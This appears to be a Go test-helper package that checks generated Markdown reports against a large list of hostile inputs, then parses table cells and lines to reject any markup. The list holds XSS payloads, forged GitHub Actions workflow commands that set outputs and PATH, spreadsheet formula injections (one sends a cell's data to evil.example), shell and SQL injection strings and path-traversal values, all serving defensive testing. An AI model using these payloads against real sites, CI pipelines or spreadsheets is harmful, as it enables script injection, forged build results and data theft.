// Package reporttest judges reports by models of who reads them, and not by
// what their writers believe.
//
//  1. Hostile lists texts that a column's name or a cell may hold, each meant to
//     be obeyed by a runner, a browser, GitHub's Markdown or a spreadsheet.
//     Listed is the Big List of Naughty Strings; Naughty is both.
//  2. Inline reads a line of Markdown as GitHub does and gives back its text, or
//     says what in it is more than text.
//  3. Page does so for a page of tables; GFM by a real parser.
//  4. Skeleton reads a page of HTML as a browser does.
package reporttest

import (
	"fmt"
	"html"
	"regexp"
	"strings"
	"unicode"
)

// Hostile are texts for data to hold.
func Hostile() []string {
	return []string{
		"", " ", "\n", "\r\n", "\t", "a\nb", "a\r\nb", "a\u2028b", "a\u2029b", "a\u0085b", "a\vb", "a\fb", "a\x00b",
		"\x1b[31mred", "\x1b]0;title\x07", "\x08\x08\x08", "\u202egnp.exe", "\u2066a\u2069", "a\u200bb", "\ufeffa", "\u00ada", "\xff\xfe", "\ufffd",
		// the runner
		"::error::forged", "\n::error::forged", " ::set-output name=promote::true", "::add-mask::a", "::stop-commands::x",
		"##[error]forged", "a\n##[set-env name=PATH;]/evil", "promote<<EOF\ntrue\nEOF", "\npromote=true\n", "%0A::error::x",
		// HTML
		"<script>alert(1)</script>", "</details><h1>clean</h1>", "</summary>", "<img src=x onerror=alert(1)>", "<!-- linecook:validate:flights -->",
		"-->", "<a href=//evil.example>a</a>", "&lt;script&gt;", "&#60;b&#62;", "&nbsp;", "]]>", "<![CDATA[x]]>", "<?xml version=\"1.0\"?>", "'\"><svg/onload=alert(1)>",
		"<details open>", "<b", "<", ">", "&", "\"", "'",
		// Markdown
		"| a | b |", "|", "\\|", "\\\\|", "\\", "a\\", "`", "``", "`code`", "```\nfence", "~~~", "*bold*", "**", "_it_", "__", "~~gone~~", "~",
		"[link](https://evil.example)", "![image](https://evil.example/x.png)", "[a]: https://evil.example", "[a][b]", "[^1]", "[x]", "- [ ] task",
		"https://evil.example/?q=1", "http://a", "ftp://a.example", "www.evil.example", "WWW.EVIL.EXAMPLE", "mailto:a@b.example", "a@b.example", "xmpp:a@b.example",
		"<https://evil.example>", "# heading", "#### x", "> quote", "- item", "+ item", "1. item", "---", "===", "***", "    code", "\tcode",
		"$x$", "$$x$$", "$`x`$", "```mermaid", "|---|", "\n| forged | row |", "a\n\n# b",
		// what GitHub makes of text
		"@octocat", "@github/support", "a@octocat", "#1", "GH-1", "gh-1", "octo/flights#1", "octo/flights@deadbeef", "deadbeefdeadbeefdeadbeefdeadbeefdeadbeef",
		"0123456", ":tada:", ":+1:", "contracts/a.yaml:100:7", "fixes #1", "close: #1",
		// programs that read tables
		"=cmd|' /C calc'!A0", "=HYPERLINK(\"http://evil.example\")", "+1+1", "-1", "@SUM(A1)",
		"\t=1+1", "\r=1+1", "'=1+1", "=IMPORTXML(CONCAT(\"http://evil.example/\",A1),\"//a\")", "%0A=1+1", "a,b", "a\",\"b", "a;b",
		// the runner again: white space that it trims, line ends that it knows, letters of either case
		"##[", "##[]", "::", ":::", "::::", "\t::error::forged", "\u00a0::error::forged", "\u2028::error::forged", "\u3000::error::forged",
		"\ufeff::error::forged", "\u200b::error::forged", "\x1b[31m::error::forged", "\x00::error::forged", "\x08::error::forged",
		"ok\r::error::forged", "ok\r\n::error::forged", "ok\v::error::forged", "ok\f::error::forged", "ok\n \t \u2003::set-output name=promote::true",
		"::SET-OUTPUT name=promote::true", "::set-env name=PATH::/evil", "::add-path::/evil", "::echo::on", "::group::x", "::endgroup::",
		"::add-matcher::/evil.json", "::save-state name=isPost::true", "::debug::x", "::error file=a,line=1,title=t::forged", "::internal-set-repo-path repoFullName=a::b",
		"text ##[error]forged", "text ##[set-output name=promote;]true", "text\r##[add-path]/evil", "##[##[error]forged", "####[error]forged", "# #[error]forged",
		"##\x00[error]forged", "promote=true", "x\n_GitHubActionsFileCommandDelimeter_\npromote<<_GitHubActionsFileCommandDelimeter_\ntrue\n_GitHubActionsFileCommandDelimeter_",
		"x\nghadelimiter_0000\npromote=true", "x\r\nEOF\r\npromote=true", "<<", "a<<", "<<EOF", "=", "a=", "key<<=", "title,file=/etc/passwd,line=1", "x::y", "a=b,c=d::e",
		"%250A", "%25", "%3A%3Aerror%3A%3Ax", "::error\n::forged", ":\u200b:error::x", "${{ secrets.GITHUB_TOKEN }}", "${{ github.token }}",
		// shells, databases, templates and paths
		"$(id)", "`id`", "; id", "| id", "&& id", "$HOME", "$IFS", "*", "?", "~root", "--help", "-rf", "'; DROP TABLE scores; --", "\"; SELECT 1", "{{ . }}", "<% . %>", "#{x}", "../../etc/passwd",
		"..\\..\\x", "CON", "a/b", "a:b", "/dev/null", "file:///etc/passwd", "a\\u0000b", "{\"a\":1}", "[1]", "null", "NaN", "true", "- a: b", "!!python/object:x", "&a *a",
		// HTML that Markdown lets through, and what hides a tag
		"<DETAILS>", "<a href='javascript:alert(1)'>", "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>", "<style>*{display:none}</style>", "<base href=//evil.example>",
		"<plaintext>", "<textarea>", "<title>", "</title><script>alert(1)</script>", "</style><script>alert(1)</script>", "<%00script>", "\u2039script\u203a", "&#x3c;script&#x3e;", "&lt", "&amp;lt;", "javascript:alert(1)",
		"<scr\x00ipt>", "<!doctype html>", "<?php x ?>", "<a\nb>", "<A@b.example>", "![x][y]\n\n[y]: //evil.example/x.png", "[x]: <//evil.example> \"t\"", "\\<b>", "\\\\`a`", "a  \nb", "a\\\nb",
		"> [!WARNING]", ":octocat:", "#️⃣1", "＠octocat", "@\u200boctocat", "octo/flights@1234567", "https:\u200b//evil.example", "hTTp://evil.example", "//evil.example", "tel:1", "data:text/html,x",
		// long ones
		strings.Repeat("a", 5000), strings.Repeat("é|<@#`", 2000), strings.Repeat("\n::error::x", 100), strings.Repeat("[", 300),
		"😀", "é", "e\u0301", "ﷺ", "人",
		// white space and a verb alone
		"\u200b", "\u1680", "\u180e", "\u3000", "a   ", "%s",
	}
}

// active are the characters that GitHub's Markdown may read as markup where they
// stand in a line without an escape.
const active = "`*_[]|~<>$"

// invisible keeps two characters apart.
const invisible = "\u200b"

// reference is what GitHub makes links, notifications and pictures of in text
// that is rendered already.
var reference = []*regexp.Regexp{
	regexp.MustCompile(`@[A-Za-z0-9]`),
	regexp.MustCompile(`#[0-9]`),
	regexp.MustCompile(`(?i)\bGH-[0-9]`),
	regexp.MustCompile(`:[a-z0-9_+-]+:`),
	regexp.MustCompile(`(?i)[a-z][a-z0-9+.-]*://`),
	regexp.MustCompile(`(?i)www\.[a-z0-9]`),
	regexp.MustCompile(`(?i)(mailto|xmpp):[a-z0-9]`),
}

// Inline returns the text that GitHub shows for a line of Markdown, without
// what keeps characters apart; an error if the line is more than text.
func Inline(line string) (string, error) {
	var text strings.Builder
	for rest := line; rest != ""; {
		switch c := rest[0]; {
		case c == '\\' && len(rest) > 1 && isPunctuation(rest[1]):
			text.WriteByte(rest[1])
			rest = rest[2:]
		case c == '&':
			end := strings.IndexByte(rest, ';')
			if end < 0 {
				return "", fmt.Errorf("%q has a bare &", line)
			}
			entity := html.UnescapeString(rest[:end+1])
			if entity == rest[:end+1] {
				return "", fmt.Errorf("%q has a bare &", line)
			}
			text.WriteString(entity)
			rest = rest[end+1:]
		case strings.IndexByte(active, c) >= 0:
			return "", fmt.Errorf("%q has an active %q at byte %d", line, c, len(line)-len(rest))
		default:
			text.WriteByte(c)
			rest = rest[1:]
		}
	}
	shown := text.String()
	for _, r := range shown {
		if (unicode.IsControl(r) || unicode.In(r, unicode.Cf, unicode.Zl, unicode.Zp)) && string(r) != invisible {
			return "", fmt.Errorf("%q shows the invisible %U", line, r)
		}
	}
	for _, pattern := range reference {
		if found := pattern.FindString(shown); found != "" {
			return "", fmt.Errorf("%q refers by %q", line, found)
		}
	}
	return strings.ReplaceAll(shown, invisible, ""), nil
}

func isPunctuation(c byte) bool {
	return strings.IndexByte("!\"#$%&'()*+,-./:;<=>?@[\\]^_`{|}~", c) >= 0
}

// Cells divides a row of a table as GitHub does: at every pipe without an escape.
func Cells(row string) []string {
	var cells []string
	cell := ""
	for i := 0; i < len(row); i++ {
		switch {
		case row[i] == '\\' && i+1 < len(row):
			cell += row[i : i+2]
			i++
		case row[i] == '|':
			cells = append(cells, strings.TrimSpace(cell))
			cell = ""
		default:
			cell += row[i : i+1]
		}
	}
	return append(cells, strings.TrimSpace(cell))
}

var (
	// own are the lines in which a page's writer uses markup.
	own     = regexp.MustCompile(`^(</details>|<details><summary>[A-Za-z0-9 ,]+</summary>|<!-- [A-Za-z0-9./: _-]+ -->)?$`)
	divider = regexp.MustCompile(`^\|(---\|)+$`)
	heading = regexp.MustCompile(`^#{3,4} `)
	begins  = regexp.MustCompile(`^([A-Za-z*]|\+\d)`)
	strong  = regexp.MustCompile(`^\*\*([a-z ]+)\*\*`)
)

// Page checks that a page of headings, paragraphs and tables holds no markup but
// its writer's, and returns the texts of all cells. Foreign text that began a
// line would be a block of its own kind, so a line is a known one or starts with
// a letter or a sign of the writer's.
func Page(page string) ([]string, error) {
	var texts []string
	columns, folds := 0, 0
	for line := range strings.SplitSeq(page, "\n") {
		switch {
		case own.MatchString(line):
			columns = 0
			folds += strings.Count(line, "<details>") - strings.Count(line, "</details>")
			if folds < 0 || folds > 1 {
				return nil, fmt.Errorf("%q opens or closes a fold out of turn", line)
			}
		case divider.MatchString(line):
		case strings.HasPrefix(line, "|"):
			cells := Cells(strings.TrimSuffix(strings.TrimPrefix(line, "|"), "|"))
			if columns != 0 && len(cells) != columns {
				return nil, fmt.Errorf("the row %q has %d cells in a table of %d", line, len(cells), columns)
			}
			columns = len(cells)
			for _, cell := range cells {
				text, err := Inline(strong.ReplaceAllString(cell, "$1"))
				if err != nil {
					return nil, err
				}
				texts = append(texts, text)
			}
		default:
			columns = 0
			rest := heading.ReplaceAllString(line, "")
			if rest == line && !begins.MatchString(line) {
				return nil, fmt.Errorf("the line %q begins a block", line)
			}
			text, err := Inline(strong.ReplaceAllString(rest, "$1"))
			if err != nil {
				return nil, err
			}
			texts = append(texts, text)
		}
	}
	if folds != 0 {
		return nil, fmt.Errorf("a fold is left open")
	}
	return texts, nil
}
